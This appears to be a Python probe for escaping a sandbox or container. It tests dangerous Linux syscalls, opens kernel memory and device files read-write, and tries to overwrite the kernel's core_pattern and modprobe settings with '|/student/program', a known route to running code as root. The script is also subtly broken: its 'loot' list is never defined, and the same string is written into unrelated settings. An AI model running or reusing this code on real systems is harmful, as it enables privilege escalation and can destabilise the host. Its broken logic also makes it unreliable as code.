"""Opens the doors to the kernel that have often been left ajar."""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
calls = {"bpf": 321, "perf_event_open": 298, "userfaultfd": 323, "io_uring_setup": 425, "keyctl": 250,
         "kexec_load": 246, "init_module": 175, "memfd_create": 319, "add_key": 248}  # fmt: skip
if os.uname().machine == "x86_64":
    block = ctypes.create_string_buffer(256)
    for name, number in calls.items():
        if libc.syscall(number, 0, block, 128, 0, 0) >= 0:
            loot.append(f"found: {name}")
for path in ("/dev/mem", "/dev/kmem", "/proc/kcore", "/dev/kvm", "/dev/fuse", "/proc/kallsyms",
             "/proc/sysrq-trigger", "/sys/kernel/debug", "/dev/vda"):  # fmt: skip
    try:
        descriptor = os.open(path, os.O_RDWR)
        loot.append(f"found: {path}")
    except OSError:
        pass
for name in ("kernel/core_pattern", "kernel/modprobe", "vm/drop_caches", "fs/file-max"):
    try:
        open(f"/proc/sys/{name}", "w").write("|/student/program")
        loot.append(f"found: {name}")
    except OSError:
        pass
